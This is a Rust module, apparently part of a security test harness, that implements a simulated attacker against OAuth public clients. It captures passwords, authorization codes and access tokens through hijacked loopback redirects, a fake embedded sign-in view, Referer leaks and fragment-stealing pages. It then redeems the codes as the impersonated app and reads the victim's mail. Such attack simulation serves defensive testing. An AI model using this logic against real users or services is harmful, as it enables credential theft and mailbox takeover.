//! The malicious mail robot. Everything it does needs only what every attacker has: public identifiers, a site, an account
//! of his own, and a program on the victim's machine.
//!
//! | address | what it is for |
//! | --- | --- |
//! | `GET /callback` | claims the loopback redirect of another app: keeps what arrives |
//! | `GET`, `POST /embedded` | a "web view": shows the sign-in inside the app, reads the password, presses "allow" |
//! | `GET /banner.svg` | a picture for other people's pages: keeps the `Referer` |
//! | `GET /offer` | a page that sends its visitor to a forged callback |
//! | `GET /catch`, `POST /collect` | a page whose script sends home the fragment of its address |

pub mod counterfeit;
mod site;
mod web_view;
mod work;

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use anyhow::Result;
use tokio::sync::watch;
use url::Url;

use crate::public_client::{PublicClient, Redeemed};
pub use site::router;

/// What the malicious robot needs to know.
#[derive(Clone, Debug)]
pub struct MaliciousConfig {
    /// Its own origin, without a trailing slash.
    pub origin: String,
    /// The app that it passes itself off as: everything in it is public.
    pub app: PublicClient,
    /// Where `/offer` sends its visitor: a forged callback. Set later by [`Malicious::bait`].
    pub offer: String,
}

/// One thing that fell into its hands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Catch {
    /// `code`, `access_token`, `password` and so on.
    pub name: String,
    /// The value itself.
    pub value: String,
    /// How it came.
    pub by: &'static str,
}

/// The robot with what it has caught so far.
pub struct Malicious {
    origin: String,
    app: PublicClient,
    catches: Mutex<Vec<Catch>>,
    offer: Mutex<String>,
    count: watch::Sender<usize>,
}

impl Malicious {
    /// A new one.
    pub fn new(config: MaliciousConfig) -> Arc<Malicious> {
        let MaliciousConfig { origin, app, offer } = config;
        Arc::new(Malicious {
            origin,
            app,
            catches: Mutex::default(),
            offer: Mutex::new(offer),
            count: watch::Sender::new(0),
        })
    }

    /// Its own origin.
    pub fn origin(&self) -> &str {
        &self.origin
    }

    /// The last catch of that name.
    pub fn caught(&self, name: &str) -> Option<Catch> {
        self.catches().iter().rev().find(|catch| catch.name == name).cloned()
    }

    /// Where `/offer` leads from now on.
    pub fn bait(&self, url: &str) {
        *self.offer.lock().unwrap_or_else(PoisonError::into_inner) = url.to_owned();
    }

    /// Keeps the interesting parameters.
    fn keep(&self, pairs: impl IntoIterator<Item = (String, String)>, by: &'static str) {
        const WANTED: [&str; 9] = [
            "access_token",
            "code",
            "code_verifier",
            "client_secret",
            "error",
            "password",
            "state",
            "token",
            "username",
        ];
        let wanted = pairs.into_iter().filter(|(name, _)| WANTED.contains(&name.as_str()));
        let count = {
            let mut catches = self.catches();
            catches.extend(wanted.map(|(name, value)| Catch { name, value, by }));
            catches.len()
        };
        self.count.send_replace(count);
    }

    /// Keeps what an address gives away, in its query and in its fragment.
    fn keep_address(&self, address: &str, by: &'static str) {
        let Ok(url) = Url::parse(address) else { return };
        let fragment = url.fragment().unwrap_or_default().to_owned();
        self.keep(url.query_pairs().into_owned().collect::<Vec<_>>(), by);
        self.keep(form_urlencoded::parse(fragment.as_bytes()).into_owned().collect::<Vec<_>>(), by);
    }

    fn catches(&self) -> MutexGuard<'_, Vec<Catch>> {
        // Catches go in whole.
        self.catches.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Redeems a code in the name of the app that it passes itself off as.
    ///
    /// # Errors
    /// No answer, or one that is not JSON.
    pub async fn redeem(&self, code: &str, redirect_uri: &str, verifier: Option<&str>) -> Result<Redeemed> {
        let redeemed = self.app.redeem(code, redirect_uri, verifier).await?;
        if let Redeemed::Tokens { access: token, .. } = &redeemed {
            self.keep([("access_token".to_owned(), token.clone())], "the token endpoint");
        }
        Ok(redeemed)
    }

    /// The app that it passes itself off as.
    pub fn app(&self) -> &PublicClient {
        &self.app
    }

    /// The subjects of the mails that a token opens. None where the mailbox refuses it.
    ///
    /// # Errors
    /// No answer.
    pub async fn read_mails(&self, token: &str) -> Result<Option<Vec<String>>> {
        self.app.read_mails(token).await
    }
}
